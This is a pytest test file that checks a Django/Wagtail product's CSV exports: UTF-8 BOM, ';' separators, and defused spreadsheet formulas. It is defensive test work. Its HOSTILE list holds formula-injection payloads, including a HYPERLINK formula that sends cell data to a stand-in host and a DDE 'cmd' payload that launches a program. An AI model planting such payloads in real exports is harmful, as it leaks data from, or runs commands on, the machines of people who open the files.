"""Every CSV the product writes opens in a Russian Excel and runs nothing (issue 10,
item 7): UTF-8 with a byte-order mark, `;` between cells, and no cell that a
spreadsheet would take for a formula, whether it splits lines on `;` or on `,`."""

import re

import pytest
from django.urls import reverse
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from accounts.models import User
from cms.models import ContentPage
from eios.audit import AuditKind, audit_record
from tests.clients import signed_in

pytestmark = pytest.mark.django_db

# What an attacker types as a login name, or an editor pastes as a title.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
    "-2+3",
    "+7-1",
    "@SUM(A1:A9)",
    "Иванов;=1+1",
    "x,=cmd|' /C calc'!A0",
    '"=1+2"',
    "\t=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_body(client, url, **params) -> str:
    response = client.get(url, {"export": "csv", **params})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads it as UTF-8
    return raw.decode("utf-8-sig")


def cells_a_spreadsheet_would_see(body: str) -> list[str]:
    """Every cell of the raw file as a spreadsheet splitting on `;` or on `,` sees it
    (a split on either separator, or a line break, may start a cell there)."""
    return [
        cell.strip(' "') for line in re.split(r"[\r\n]", body) for cell in re.split(r"[;,]", line)
    ]


def assert_runs_nothing(body: str):
    formulas = [
        cell for cell in cells_a_spreadsheet_would_see(body) if cell.startswith(FORMULA_STARTS)
    ]
    assert formulas == []


@pytest.fixture
def admin(db):
    return User.objects.create_superuser("root", password="pass-29")


def test_the_audit_log_export_defuses_every_cell(rf, admin):
    for name in HOSTILE:
        audit_record(AuditKind.LOGIN_FAILED, subject_name=name, request=rf.get("/"))

    body = csv_body(signed_in(admin), reverse("audit_log"), kind=AuditKind.LOGIN_FAILED)

    lines = body.splitlines()
    assert lines[0].split(";")[:3] == ["Время", "Событие", "Кто"]
    assert len(lines) == 1 + len(HOSTILE)
    assert_runs_nothing(body)
    # The text is kept, only marked as text.
    assert "'=HYPERLINK" in body
    assert "'-2+3" in body
    assert "'@SUM(A1:A9)" in body
    assert "Иванов;'=1+1" in body
    assert "x,'=cmd" in body


def test_wagtails_own_reports_and_redirects_write_the_same_csv(home, admin):
    client = signed_in(admin)
    for number, title in enumerate(HOSTILE[:5]):
        page = home.add_child(instance=ContentPage(title=title, slug=f"page-{number}"))
        page.save_revision(user=admin).publish(user=admin)
    page = Page.objects.get(pk=page.pk)
    page.locked, page.locked_by = True, admin
    page.save()
    Redirect.objects.create(old_path="/old;=1+1", redirect_link="https://example.ru/,=cmd")

    reports = {
        "wagtailadmin_reports:site_history": "'=HYPERLINK",
        "wagtailadmin_reports:aging_pages": "'@SUM(A1:A9)",
        "wagtailadmin_reports:locked_pages": "Иванов;'=1+1",
        "wagtailadmin_reports:workflow": None,
        "wagtailadmin_reports:workflow_tasks": None,
        "wagtailredirects:index": "/old;'=1+1",
    }
    for name, defused in reports.items():
        body = csv_body(client, reverse(name))
        assert ";" in body.splitlines()[0], name
        assert_runs_nothing(body)
        if defused:
            assert defused in body, name
